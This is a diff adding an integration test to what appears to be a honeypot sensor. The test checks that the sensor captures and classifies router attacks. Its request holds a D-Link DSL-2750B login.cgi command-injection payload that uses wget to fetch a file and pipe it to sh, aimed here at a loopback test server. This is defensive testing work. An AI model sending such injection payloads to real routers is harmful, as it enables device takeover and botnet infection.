@@ -466,6 +466,64 @@ class PipelineTest(harness.unittest.TestCase):
             srv.stop()
             shutil.rmtree(tmp, ignore_errors=True)
 
+    def test_wget_exploit_and_firmware_upload_to_verdict(self):
+        """The shared machinery end to end on two more ways in: a `;wget http://ADDR:PORT/x`
+        inside an exploit's target (the D-Link DSL-2750B login.cgi injection) and a firmware
+        upload behind Basic login. The first is fetched from a test HTTP server on loopback,
+        the second taken from the request; both end as stored samples with a sandbox verdict
+        (mitsu.box.result), as a Telnet download does (tests/integration/test_pipeline.py).
+        The binaries are harmless test programs (tests/data/box)."""
+        from test_box import compile_bot
+        from test_capture import Servers, sha
+        tmp = tempfile.mkdtemp(prefix='mitsu-webpipe2-')
+        srv = Servers()
+        try:
+            fetched = os.path.join(tmp, 'x.arm')
+            compile_bot('mirai_like', 'arm', fetched)
+            with open(fetched, 'rb') as f:
+                payload = srv.put('x', f.read())
+            firmware = os.path.join(tmp, 'fw.mips')
+            compile_bot('benign', 'mips', firmware)
+            with open(firmware, 'rb') as f:
+                image = f.read()
+            web_port = harness.free_port()
+            srv.start_http(web_port)
+            port = harness.free_port()
+            with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port],
+                                sets=['capture.allow_private=true', 'box.window=15']) as s:
+                target = ('/login.cgi?cli=aa%%20aa%%27;wget%%20http://%s:%d/x%%20-O%%20-%%3E%%20'
+                          '/tmp/d;sh%%20/tmp/d%%27$' % (srv.addr, web_port))
+                c = socket.create_connection(('127.0.0.1', port), timeout=10)
+                c.sendall(b'GET ' + target.encode() + b' HTTP/1.1\r\nHost: x\r\n\r\n')
+                self.assertRegex(c.recv(65536), rb'^HTTP/1\.[01] \d\d\d ')
+                c.close()
+                body, ctype = multipart('fw.bin', image)
+                r, _ = Client(port, 'router-d').request('POST', '/goform/upgrade', body,
+                                                        {'Content-Type': ctype})
+                self.assertEqual(r.status, 200)
+                want = {sha(payload), sha(image)}
+                s.events(wait_for=('mitsu.box.result', lambda e: want <= {
+                    x.get('shasum') for x in s.events('mitsu.box.result')}), timeout=300)
+                ev = s.events()
+                match = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
+                self.assertEqual([m['signature'] for m in match], ['dlink-dsl2750b-rce'])
+                dl = [e for e in ev if e['eventid'] == 'mitsu.session.file_download']
+                self.assertEqual([(d['url'], d['shasum'], d['session']) for d in dl],
+                                 [('http://%s:%d/x' % (srv.addr, web_port), sha(payload),
+                                   match[0]['session'])])
+                up = [e for e in ev if e['eventid'] == 'mitsu.session.file_upload']
+                self.assertEqual([(u['shasum'], u['method']) for u in up],
+                                 [(sha(image), 'firmware_upload')])
+                stored = {e['shasum'] for e in ev if e['eventid'] == 'mitsu.sample.stored'}
+                self.assertLessEqual(want, stored)
+                res = {e['shasum']: e for e in ev if e['eventid'] == 'mitsu.box.result'}
+                self.assertEqual(res[sha(payload)]['arch'], 'arm')
+                self.assertEqual(res[sha(payload)]['family'], 'mirai')
+                self.assertEqual(res[sha(image)]['arch'], 'mips')
+        finally:
+            srv.stop()
+            shutil.rmtree(tmp, ignore_errors=True)
+
 
 class ReportTest(harness.unittest.TestCase):
     def test_report_tables_from_a_mix_of_hosts(self):
